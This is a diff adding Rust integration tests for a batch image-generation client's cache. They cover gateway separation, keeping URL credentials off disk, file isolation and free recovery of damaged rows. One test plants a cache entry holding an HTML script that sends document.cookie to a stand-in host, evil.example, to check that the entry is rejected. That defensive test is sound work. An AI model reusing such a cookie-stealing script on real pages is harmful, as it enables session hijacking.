@@ -203,3 +203,339 @@ fn a_cache_that_is_not_a_folder_is_exit_2_before_anything_is_sent() {
     assert_eq!(o.status.code(), Some(2));
     assert!(text(&o.stderr).contains("cache"), "{}", text(&o.stderr));
 }
+
+/// The `entry.json` files of the store.
+fn entries(cache: &Path) -> Vec<std::path::PathBuf> {
+    walk(cache)
+        .into_iter()
+        .filter(|p| p.ends_with("entry.json"))
+        .collect()
+}
+
+/// Writes `bytes` over the start of `path`, in place (the same file, as an
+/// editor that saves in place or a stray `dd` would).
+fn scribble(path: &Path, bytes: &[u8]) {
+    use std::io::{Seek, Write};
+    let mut f = std::fs::OpenOptions::new().write(true).open(path).unwrap();
+    f.seek(std::io::SeekFrom::Start(40)).unwrap();
+    f.write_all(bytes).unwrap();
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn two_gateways_behind_one_host_never_share_a_cache_or_a_folder() {
+    let (a, b) = (start(quick()).await, start(quick()).await);
+    let host = PathProxy::start(vec![("/a", a.url()), ("/b", b.url())]).await;
+    let (url_a, url_b) = (format!("{}/a", host.url), format!("{}/b", host.url));
+    let dir = tempfile::tempdir().unwrap();
+    let cache = dir.path().join("cache");
+    let flag = ["--cache", cache.to_str().unwrap()];
+    let m = cats(dir.path(), "[1, 2]", "");
+    let one = dir.path().join("one");
+    let o = run(&m, &one, &url_a, &flag).await;
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+    assert_eq!(a.ledger().accepted, 2);
+
+    // The gateway at /b pays for its own images: /a's are not its.
+    let two = dir.path().join("two");
+    let o = run(&m, &two, &url_b, &flag).await;
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+    assert_eq!(
+        (b.ledger().accepted, summary(&two)["cached"].as_u64()),
+        (2, Some(0)),
+        "the gateway at /b served its own rows"
+    );
+    assert_files_are_what_was_served(&two, &b.ledger());
+
+    // The folder made against /a is refused for /b, before anything is sent.
+    let m3 = cats(dir.path(), "[1, 2, 3]", "");
+    let o = run(&m3, &one, &url_b, &flag).await;
+    assert_eq!(o.status.code(), Some(2), "{}", text(&o.stderr));
+    let err = text(&o.stderr);
+    assert!(err.contains(&url_a) && err.contains(&url_b), "{err}");
+    assert_eq!(b.ledger().submit_calls, 2);
+
+    // Spellings of one gateway agree: letter case of the scheme, the default
+    // port, a trailing slash, dot segments; a user name and password are
+    // never written down.
+    let hostport = host.url.trim_start_matches("http://");
+    let same = format!("HTTP://someone:hunter2@{hostport}/x/../a/");
+    let o = run(&m3, &one, &same, &flag).await;
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+    assert_eq!(a.ledger().accepted, 3, "only the new row is paid for");
+    let three = dir.path().join("three");
+    let o = run(&m3, &three, &format!("{url_a}/"), &flag).await;
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+    assert_eq!(summary(&three)["cached"], 3);
+    assert_eq!(a.ledger().accepted, 3);
+    for out in [&one, &three, &cache] {
+        for p in walk(out) {
+            let bytes = std::fs::read(&p).unwrap();
+            let name = p.to_string_lossy();
+            assert!(
+                !name.contains("hunter2") && !bytes.windows(7).any(|w| w == b"hunter2"),
+                "a credential is in {name}"
+            );
+        }
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_store_laid_out_by_origin_serves_only_base_urls_without_a_path() {
+    let (a, b, root) = (
+        start(quick()).await,
+        start(quick()).await,
+        start(quick()).await,
+    );
+    let host = PathProxy::start(vec![("/a", a.url()), ("/b", b.url()), ("", root.url())]).await;
+    let dir = tempfile::tempdir().unwrap();
+    let cache = dir.path().join("cache");
+    let flag = ["--cache", cache.to_str().unwrap()];
+    let m = cats(dir.path(), "[1]", "");
+    let o = run(
+        &m,
+        &dir.path().join("one"),
+        &format!("{}/a", host.url),
+        &flag,
+    )
+    .await;
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+    // The store as earlier versions laid it out: one folder per origin.
+    let legacy = cache.join(batchgen::plan::sanitize(&host.url));
+    for e in std::fs::read_dir(&cache).unwrap() {
+        let e = e.unwrap().path();
+        if e != legacy {
+            std::fs::rename(&e, &legacy).unwrap();
+        }
+    }
+    assert_eq!(entries(&cache).len(), 1);
+
+    let o = run(
+        &m,
+        &dir.path().join("two"),
+        &format!("{}/b", host.url),
+        &flag,
+    )
+    .await;
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+    assert_eq!(
+        b.ledger().accepted,
+        1,
+        "an entry without its path is not /b's"
+    );
+
+    let o = run(&m, &dir.path().join("three"), &host.url, &flag).await;
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+    assert_eq!(
+        root.ledger().accepted,
+        0,
+        "the origin's own entries still serve it"
+    );
+    assert_eq!(summary(&dir.path().join("three"))["cached"], 1);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_entry_that_is_not_an_image_is_a_miss() {
+    use sha2::Digest;
+    let sim = start(quick()).await;
+    let dir = tempfile::tempdir().unwrap();
+    let cache = dir.path().join("cache");
+    let flag = ["--cache", cache.to_str().unwrap()];
+    let m = cats(dir.path(), "[1]", "");
+    let o = run(&m, &dir.path().join("one"), &sim.url(), &flag).await;
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+    let page = b"<html><script>fetch('https://evil.example/'+document.cookie)</script></html>";
+    let sha = batchgen::disk::hex(&sha2::Sha256::digest(page));
+    // First under the name of an image, then under its own name.
+    for (round, name) in [(2u64, "0.png"), (3, "0.html")] {
+        let entry = entries(&cache);
+        assert_eq!(entry.len(), 1);
+        let folder = entry[0].parent().unwrap();
+        for f in walk(folder) {
+            std::fs::remove_file(f).unwrap();
+        }
+        std::fs::write(folder.join(name), page).unwrap();
+        let json = format!(
+            r#"{{"files":[{{"name":"{name}","bytes":{},"sha256":"{sha}"}}]}}"#,
+            page.len()
+        );
+        std::fs::write(&entry[0], json).unwrap();
+
+        let out = dir.path().join(format!("out{round}"));
+        let o = run(&m, &out, &sim.url(), &flag).await;
+        assert_eq!(o.status.code(), Some(0), "{name}: {}", text(&o.stderr));
+        assert!(
+            text(&o.stderr).contains("not taken from the cache"),
+            "{name}: {}",
+            text(&o.stderr)
+        );
+        assert_eq!(sim.ledger().accepted, round, "{name}: paid for, not served");
+        assert_eq!(by_id(&out)["cat_s1"]["cached"], "false", "{name}");
+        assert_files_are_what_was_served(&out, &sim.ledger());
+        for p in walk(&out.join("images")) {
+            let bytes = std::fs::read(&p).unwrap();
+            assert!(
+                !bytes.windows(8).any(|w| w == b"<script>"),
+                "{}",
+                p.display()
+            );
+        }
+    }
+}
+
+#[cfg(unix)]
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn outputs_never_share_a_file_with_the_store() {
+    use std::os::unix::fs::MetadataExt;
+    let sim = start(quick()).await;
+    let dir = tempfile::tempdir().unwrap();
+    let cache = dir.path().join("cache");
+    let flag = ["--cache", cache.to_str().unwrap()];
+    let m = cats(dir.path(), "[1, 2]", "");
+    let (one, two) = (dir.path().join("one"), dir.path().join("two"));
+    let images = |out: &Path| -> Vec<std::path::PathBuf> {
+        results(out)
+            .iter()
+            .flat_map(|r| {
+                r["files"]
+                    .split(';')
+                    .map(|f| out.join(f))
+                    .collect::<Vec<_>>()
+            })
+            .collect()
+    };
+    let stored = |cache: &Path| -> Vec<std::path::PathBuf> {
+        walk(cache)
+            .into_iter()
+            .filter(|p| !p.ends_with("entry.json"))
+            .collect()
+    };
+    let o = run(&m, &one, &sim.url(), &flag).await;
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+    let o = run(&m, &two, &sim.url(), &flag).await;
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+    assert_eq!(summary(&two)["cached"], 2);
+    let inodes: Vec<(u64, u64)> = stored(&cache)
+        .iter()
+        .map(|p| std::fs::metadata(p).map(|m| (m.dev(), m.ino())).unwrap())
+        .collect();
+    assert_eq!(inodes.len(), 2);
+    for f in images(&one).iter().chain(&images(&two)) {
+        let meta = std::fs::metadata(f).unwrap();
+        assert_eq!(meta.nlink(), 1, "{} has other names", f.display());
+        assert!(
+            !inodes.contains(&(meta.dev(), meta.ino())),
+            "{}",
+            f.display()
+        );
+    }
+
+    // Editing an output in place leaves the store whole: a third folder
+    // takes both rows from it, at no cost.
+    for f in images(&one) {
+        scribble(&f, b"edited in place");
+    }
+    let o = run(&m, &dir.path().join("three"), &sim.url(), &flag).await;
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+    assert_eq!(summary(&dir.path().join("three"))["cached"], 2);
+    assert_eq!(sim.ledger().accepted, 2, "nothing paid again");
+
+    // Damaging the store leaves the outputs as they were.
+    for f in stored(&cache) {
+        scribble(&f, b"damaged in place");
+    }
+    for row in results(&two) {
+        assert_eq!(sha256_file(&two.join(&row["files"])), row["sha256"]);
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_damaged_row_from_the_cache_is_restored_from_it_free_and_never_called_charged() {
+    let sim = start(quick()).await;
+    let dir = tempfile::tempdir().unwrap();
+    let cache = dir.path().join("cache");
+    let flag = ["--cache", cache.to_str().unwrap()];
+    let m = cats(dir.path(), "[1]", "");
+    let o = run(&m, &dir.path().join("one"), &sim.url(), &flag).await;
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+    let two = dir.path().join("two");
+    let o = run(&m, &two, &sim.url(), &flag).await;
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+    let row = by_id(&two)["cat_s1"].clone();
+    assert_eq!(row["cached"], "true");
+    let file = two.join(&row["files"]);
+    let never_charged = |o: &std::process::Output, out: &Path| {
+        let all = format!(
+            "{}{}{}",
+            text(&o.stderr),
+            text(&o.stdout),
+            std::fs::read_to_string(out.join("results.csv")).unwrap()
+        );
+        assert!(
+            !all.contains("possibly charged") && !all.contains("--resubmit-lost"),
+            "{all}"
+        );
+        assert_eq!(summary(out)["possibly_charged_usd"], 0.0);
+        assert_eq!(summary(out)["cost_usd"], 0.0);
+    };
+
+    // Damaged in place (same size, so only --verify sees it): restored from
+    // the store, at no cost.
+    scribble(&file, b"damaged");
+    let o = run_loud(
+        &m,
+        &two,
+        &sim.url(),
+        &["--cache", cache.to_str().unwrap(), "--verify"],
+    )
+    .await;
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+    never_charged(&o, &two);
+    let now = by_id(&two)["cat_s1"].clone();
+    assert_eq!(
+        (now["status"].as_str(), now["cached"].as_str()),
+        ("completed", "true")
+    );
+    assert_eq!(sha256_file(&file), row["sha256"], "restored");
+    assert_eq!(sim.ledger().accepted, 1, "nothing paid");
+
+    // Damaged again, and the store gone too: it cost nothing here, and it
+    // is taken again once a store has it, or submitted (paid) when asked.
+    let away = dir.path().join("away");
+    let is_gone = |o: &std::process::Output| {
+        assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
+        never_charged(o, &two);
+        let failed = by_id(&two)["cat_s1"].clone();
+        assert_eq!(failed["status"], "failed");
+        assert_eq!(
+            (
+                failed["cost_usd"].as_str(),
+                failed["possibly_charged_usd"].as_str()
+            ),
+            ("", ""),
+            "{failed:?}"
+        );
+        assert!(
+            failed["error_message"].contains("--retry-failed"),
+            "{failed:?}"
+        );
+        assert_eq!(sim.ledger().accepted, 1, "nothing paid without being asked");
+    };
+    scribble(&file, b"damaged");
+    std::fs::rename(&cache, &away).unwrap();
+    is_gone(&run_loud(&m, &two, &sim.url(), &[&flag[..], &["--verify"]].concat()).await);
+    std::fs::remove_dir_all(&cache).unwrap(); // the empty store that run made
+    std::fs::rename(&away, &cache).unwrap();
+    let o = run_loud(&m, &two, &sim.url(), &flag).await;
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+    never_charged(&o, &two);
+    assert_eq!(by_id(&two)["cat_s1"]["cached"], "true");
+    assert_eq!(sha256_file(&file), row["sha256"], "restored");
+
+    scribble(&file, b"damaged");
+    is_gone(&run_loud(&m, &two, &sim.url(), &["--verify"]).await);
+    let o = run(&m, &two, &sim.url(), &["--retry-failed"]).await;
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+    assert_eq!(sim.ledger().accepted, 2);
+    assert_eq!(by_id(&two)["cat_s1"]["cached"], "false");
+    assert_files_are_what_was_served(&two, &sim.ledger());
+}
